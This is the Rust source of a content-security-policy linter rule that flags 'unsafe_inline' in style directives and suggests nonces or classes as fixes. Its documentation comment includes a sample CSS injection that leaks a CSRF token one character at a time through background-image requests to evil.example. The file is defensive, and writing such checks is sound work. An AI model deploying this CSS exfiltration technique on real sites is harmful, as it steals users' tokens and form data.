use crate::csp::attack::{STYLE_ATTRIBUTE, STYLE_ELEMENT};
use crate::csp::{Directive, Purpose};
use crate::diagnostic::Diagnostic;
use crate::lint::report::{Report, lint};
use crate::policy::SecurityPolicy;
use crate::span::Span;

lint! {
    /// # What it does
    ///
    /// Looks for `unsafe_inline` in the list that takes effect for styles. Next to a nonce or a hash, browsers ignore
    /// it, and it is not reported. In a `default_src` that takes effect for scripts too, `csp_script_unsafe_inline`
    /// reports it instead.
    ///
    /// # Why it matters
    ///
    /// Injected CSS reads the page without any script: a rule matches an attribute such as a form field's value or a
    /// token, and loads a background image that tells the attacker about the match.
    ///
    /// # Attack
    ///
    /// `<style>*{color:red}</style>` applies, and so do styles that read the page. One rule for each possible first character;
    /// the answer decides the rules for the next:
    ///
    /// ```html
    /// <style>
    /// input[name="csrf"][value^="a"] { background: url("https://evil.example/?a") }
    /// input[name="csrf"][value^="b"] { background: url("https://evil.example/?b") }
    /// </style>
    /// ```
    ///
    /// # Example
    ///
    /// ```text
    /// content_security_policy: { style_src: [self, unsafe_inline] }
    /// ```
    ///
    /// # Fix
    ///
    /// Write `nonce`, and the nonce on each style element: `<style nonce="…">`; or move the styles into a file. Replace
    /// `style="…"` attributes by classes.
    ///
    /// ```text
    /// content_security_policy: { style_src: [self, nonce] }
    /// ```
    ///
    /// # Allow
    ///
    /// ```text
    /// #[allow(csp_style_unsafe_inline, reason = "the editor writes style attributes; images come from self only")]
    /// style_src: [self, unsafe_inline],
    /// ```
    ///
    /// Reasonable where a library needs it. A narrow `img_src` and `font_src` then leave injected CSS fewer ways to
    /// send what it reads. If only attributes need it, write `style_src_attr: unsafe_inline` and a nonce in
    /// `style_src`.
    ///
    /// # References
    ///
    /// - [CSP3, section 6.1.13, style-src](https://w3c.github.io/webappsec-csp/#directive-style-src)
    /// - [CSP3, section 6.7.3.2, when inline code is allowed](https://w3c.github.io/webappsec-csp/#allow-all-inline)
    Deny "injected inline styles apply",
    cwe [79], asvs ["3.4.3"],
    check
}

fn check(policy: &SecurityPolicy, report: &mut Report<'_>) {
    let directives = [Directive::StyleSrc, Directive::StyleSrcElem, Directive::StyleSrcAttr];
    let weaknesses = policy.weaknesses(&directives, |csp, list| {
        let scripts =
            csp.effective_clauses(&[Directive::ScriptSrc, Directive::ScriptSrcElem, Directive::ScriptSrcAttr]);
        let is_reported =
            |span: &Span| scripts.iter().any(|list| list.allows_all_inline(Purpose::Script) == Some(*span));
        let span = list.allows_all_inline(Purpose::Style).filter(|span| !is_reported(span));
        span.map(|span| (span, list.directive.node)).into_iter().collect()
    });
    for (span, directive) in weaknesses {
        let message =
            format!("`unsafe_inline` in `{}` allows every inline style, including an injected one", directive.key());
        let (attack, help) = match directive {
            Directive::StyleSrcAttr => (STYLE_ATTRIBUTE, "use classes, and write `style_src_attr: none`"),
            _ => (
                STYLE_ELEMENT,
                "use `nonce`, and write it on each style element: `<style nonce=\"…\">`; or move the styles into a file",
            ),
        };
        let effect = match directive {
            Directive::StyleSrcAttr => "CSS can hide and cover parts of the page",
            _ => "CSS can read form fields and tokens off the page and send them elsewhere",
        };
        let note = format!("an injected `{}` applies: {effect}", attack.text);
        report.push(Diagnostic::finding(span, message).help(help).note(note));
    }
}
